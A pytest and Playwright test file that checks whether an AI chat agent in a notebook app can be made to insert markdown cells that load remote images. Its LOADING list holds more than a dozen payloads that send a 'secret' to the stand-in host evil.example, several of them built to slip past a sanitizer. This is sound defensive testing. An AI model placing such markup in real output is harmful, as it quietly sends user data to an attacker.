"""Markdown cells that agents put in load nothing: the address of a picture is enough to carry away what was read."""

from __future__ import annotations

from collections.abc import Iterator
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Request, expect

from tests.browser.lab import SHOW_CHAT, Chat, Notebook
from tests.browser.test_cells import expect_end, in_mode, ready, tool_results
from tests.fakes.provider import FakeProvider, Reply

ADDRESS = "evil.example/p.png?d=secret"
LOADING = {
    "a picture": f"![ ](https://{ADDRESS})",
    "a picture by reference": f"![x][y]\n\n[y]: https://{ADDRESS}",
    "a picture without a scheme": f"![x](//{ADDRESS})",
    "a picture in a table that looks like code": f"head\n:-\n`![x](https://{ADDRESS}) | `",
    "a picture in code that mathematics cut open": f"\\begin{{x}} ` \\end{{x}} ![x](https://{ADDRESS}) `",
    "a picture behind a carriage return": f"`a\r\r![x](https://{ADDRESS})\r\rb`",
    "an HTML picture": f"<img src='https://{ADDRESS}'>",
    "an HTML picture that only the sanitizer sees": f"<noembed><img src='https://{ADDRESS}'></noembed>",
    "an HTML picture behind a frameset": f"<frameset>\n<img src='https://{ADDRESS}'>",
    "an HTML picture in a template": f"<template><img src='https://{ADDRESS}'></template>",
    "a set of pictures": f"<img srcset='https://{ADDRESS} 2x'>",
    "a video": f"<video poster='https://{ADDRESS}'></video>",
    "a sound": f"<audio src='https://{ADDRESS}'></audio>",
    "a button": f"<input type=image src='https://{ADDRESS}'>",
    "a style": f"<div style='background-image: url(https://{ADDRESS})'>x</div>",
    "a style in other words": f"<div style='background-image: u\\72l(https://{ADDRESS})'>x</div>",
    "a diagram": f"> ~~~ mermaid\n> graph TD; A[\"<img src='https://{ADDRESS}'>\"]-->B\n> ~~~",
}
STAYING = [
    "![here](plot.png)",
    rf"![x](\\\\{ADDRESS})",
    "![within](data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==)",
    f"`![x](https://{ADDRESS})` and `<img src='https://{ADDRESS}'>`",
    f"```html\n<img src='https://{ADDRESS}'>\n```",
    f"[a link](https://{ADDRESS}) and <https://evil.example>",
    "$0 < x$ and $y > 1$, `List[int]`, <b>bold</b>",
]


@pytest.fixture
def elsewhere(notebook: Notebook) -> Iterator[list[str]]:
    """Every address on another machine that the page asks for."""
    asked: list[str] = []

    def note(request: Request) -> None:
        if urlsplit(request.url).hostname not in {"127.0.0.1", None}:
            asked.append(request.url)

    notebook.page.on("request", note)
    yield asked
    notebook.page.remove_listener("request", note)


@pytest.fixture
def chat(notebook: Notebook) -> Chat:
    """A chat in which cells are put in without a question."""
    chat = ready(notebook)
    in_mode(chat, "edit")
    return chat


def shown_for_a_while(notebook: Notebook) -> None:
    """Give pictures the time to be asked for: as long as one of this server's takes that is asked for last."""
    notebook.do(
        "await new Promise((done) => {"
        " const picture = new Image(); picture.onload = picture.onerror = done; picture.src = '/favicon.ico'; });"
    )


def test_the_page_would_load_them(notebook: Notebook, elsewhere: list[str]) -> None:
    """Typed by a person each of them asks another machine, so that the next test tests something."""
    for name, source in LOADING.items():
        elsewhere.clear()
        with notebook.page.expect_request(lambda request: "evil.example" in request.url):
            notebook.do(
                "const at = panel.content.model.cells.length;"
                "panel.content.model.sharedModel.insertCell(at, {cell_type: 'markdown', source: value});"
                "const cell = panel.content.widgets[at]; cell.rendered = true;"
                "panel.content.activeCellIndex = at; await panel.content.scrollToItem(at);",
                source,
            )
        assert elsewhere, name


def test_no_request_leaves(notebook: Notebook, chat: Chat, provider: FakeProvider, elsewhere: list[str]) -> None:
    """None of them comes into the notebook, by insertion or into a cell that is there; the model is told why."""
    target = notebook.do("return panel.content.model.sharedModel.insertCell(1, {cell_type: 'markdown'}).id")
    for source in LOADING.values():
        cells = [{"type": "code", "source": "x = 1"}, {"type": "markdown", "source": source}]
        provider.script(
            Reply.tools(
                ("call-1", "insert_cells", {"cells": cells}),
                ("call-2", "replace_cell", {"cell_id": target, "source": source}),
            )
        )
        provider.script(Reply.answer("All done."))
        chat.ask("Insert it.")
        expect_end(chat)
        results = tool_results(provider)[-2:]
        assert [result.split(" would load ")[0] for result in results] == ["Nothing was changed: a markdown cell"] * 2
    assert notebook.sources == [SHOW_CHAT, ""]
    shown_for_a_while(notebook)
    assert elsewhere == []


def test_what_stays_here_is_put_in(
    notebook: Notebook, chat: Chat, provider: FakeProvider, elsewhere: list[str]
) -> None:
    """Pictures of the notebook's own machine, links, code and mathematics are put in and shown."""
    cells = [{"type": "markdown", "source": source} for source in STAYING]
    provider.script(Reply.tools(("call-1", "insert_cells", {"cells": cells})), Reply.answer("All done."))
    chat.ask("Insert it.")
    expect_end(chat)
    assert notebook.sources == [SHOW_CHAT, *STAYING]
    expect(notebook.page.get_by_role("img", name="here")).to_have_count(1)
    shown_for_a_while(notebook)
    assert elsewhere == []


def test_insert_below_refuses_it_too(
    notebook: Notebook, chat: Chat, provider: FakeProvider, elsewhere: list[str]
) -> None:
    """Markdown that a model wrote into the chat is no cell at one click either, and the button says why."""
    provider.script(Reply.answer(f"Like this:\n\n```markdown\n{LOADING['a picture']}\n```\n"))
    chat.ask("Show me.")
    expect_end(chat, "Like this")
    button = chat.region.get_by_role("button", name="Insert below")
    button.click()
    expect(button).to_contain_text("would load")
    assert notebook.sources == [SHOW_CHAT]
    assert elsewhere == []
